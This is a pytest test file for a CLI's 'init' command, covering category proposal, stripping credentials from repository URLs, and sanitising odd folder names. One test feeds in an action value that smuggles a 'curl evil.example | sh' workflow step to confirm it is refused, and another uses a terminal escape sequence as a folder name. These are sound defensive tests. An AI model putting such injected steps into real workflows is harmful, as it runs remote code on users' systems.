"""``insight init``: categories from where the docs change, no secrets, no injected steps."""

from __future__ import annotations

from pathlib import Path

import yaml
from click.testing import CliRunner
from docs_repo import DocsRepo

from insight.cli import cli
from insight.config import load_settings
from insight.models import Category


def test_init_proposes_categories_where_the_docs_changed(
    docs_repo: DocsRepo, tmp_path: Path
) -> None:
    for number in range(6):
        docs_repo.write(f"articles/search/page-{number}.md", f"# Search {number}\n")
        docs_repo.write(f"articles/speech/how-to/page-{number % 2}.md", f"# Speech {number}\n")
        docs_repo.write("README.md", f"# Readme {number}\n")
        docs_repo.commit(f"edit {number}")
    docs_repo.write("articles/vision/index.md", "# Vision\n")
    docs_repo.commit("vision")
    target = tmp_path / "watch"
    result = CliRunner().invoke(cli, ["init", str(target), "--repo", str(docs_repo.path)])
    assert result.exit_code == 0, result.output
    settings = load_settings(target / "insight.toml", environ={})
    assert settings.categories == (
        Category("search", ("articles/search",)),
        Category("speech", ("articles/speech",)),
        Category("vision", ("articles/vision",)),
    )


def test_init_without_a_readable_repository_keeps_the_examples(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["init", str(tmp_path), "--repo", str(tmp_path / "none")])
    assert result.exit_code == 0, result.output
    assert "no categories proposed" in result.stderr
    assert load_settings(tmp_path / "insight.toml", environ={}).categories == ()
    assert "# [categories.openai]" in (tmp_path / "insight.toml").read_text()


def test_init_leaves_credentials_out_of_the_config(tmp_path: Path) -> None:
    url = "https://reader:p@ss-s3cret@127.0.0.1:9/owner/docs.git"
    result = CliRunner().invoke(cli, ["init", str(tmp_path), "--repo", url])
    assert result.exit_code == 0, result.output
    for path in tmp_path.rglob("*"):
        if path.is_file():
            assert "s3cret" not in path.read_text()
    assert load_settings(tmp_path / "insight.toml", environ={}).repo == (
        "https://127.0.0.1:9/owner/docs.git"
    )
    assert "s3cret" not in result.output and "credentials in the repository URL" in result.stderr


def test_init_refuses_an_action_that_is_no_reference(tmp_path: Path) -> None:
    bad = "owner/repo@v1\n      - run: curl evil.example | sh"
    result = CliRunner().invoke(cli, ["init", str(tmp_path), "--repo", "x", "--action", bad])
    assert result.exit_code == 2 and "expected OWNER/REPO@REF" in result.stderr
    assert len(result.stderr.splitlines()) == 1
    assert not (tmp_path / "insight.toml").exists()
    good = CliRunner().invoke(
        cli, ["init", str(tmp_path), "--repo", "x", "--action", "me/insight/sub@main"]
    )
    assert good.exit_code == 0
    workflow = yaml.safe_load((tmp_path / ".github/workflows/insight.yml").read_text())
    assert workflow["jobs"]["report"]["steps"][1]["uses"] == "me/insight/sub@main"


def test_proposed_names_and_paths_always_load(docs_repo: DocsRepo, tmp_path: Path) -> None:
    for number, folder in enumerate(["we[ird", "sp ace\x1b]0;t\x07", "ok"]):
        docs_repo.write(f"{folder}/page.md", f"# Page {number}\n")
        docs_repo.commit(f"page {number}")
    target = tmp_path / "watch"
    result = CliRunner().invoke(cli, ["init", str(target), "--repo", str(docs_repo.path)])
    assert result.exit_code == 0, result.output
    settings = load_settings(target / "insight.toml", environ={})
    assert settings.categories == (
        Category("ok", ("ok",)),
        Category("sp-ace-0-t", ("sp ace\x1b]0;t\x07",)),
    )
